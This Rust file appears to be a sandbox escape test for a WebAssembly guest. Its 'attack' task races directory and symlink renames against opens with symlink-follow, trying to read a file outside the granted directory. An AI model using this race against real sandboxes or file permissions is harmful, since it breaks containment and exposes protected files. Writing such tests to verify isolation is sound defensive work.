//! Several of it swap a directory for a link that leads out, again and again, while they open what is below it.

use celeriac_guest::task;
use wasip2::filesystem::preopens::get_directories;
use wasip2::filesystem::types::{Descriptor, DescriptorFlags, OpenFlags, PathFlags};

/// What can be read below the name that is swapped.
fn read(work: &Descriptor) -> Option<Vec<u8>> {
    let (follow, read) = (PathFlags::SYMLINK_FOLLOW, DescriptorFlags::READ);
    let file = work
        .open_at(follow, "race/swap/treasure", OpenFlags::empty(), read)
        .ok()?;
    Some(file.read(64, 0).ok()?.0)
}

/// The attack.
#[task(needs(directory = "work"))]
pub fn attack() -> Vec<String> {
    let (mut found, mut decoys) = (Vec::new(), 0);
    let directories = get_directories();
    let Some((work, _)) = directories.first() else {
        return vec!["the grant is not there: this proves nothing".to_owned()];
    };
    for _ in 0..1_500 {
        for (from, to) in [
            ("race/swap", "race/directory"),
            ("race/link", "race/swap"),
            ("race/swap", "race/link"),
            ("race/directory", "race/swap"),
        ] {
            let _ = work.rename_at(from, work, to);
            match read(work) {
                Some(bytes) if bytes == b"decoy" => decoys += 1,
                Some(bytes) => found.push(format!("read {}", String::from_utf8_lossy(&bytes))),
                None => {}
            }
        }
    }
    if decoys == 0 {
        found.push("what may be read was never read: this proves nothing".to_owned());
    }
    found
}
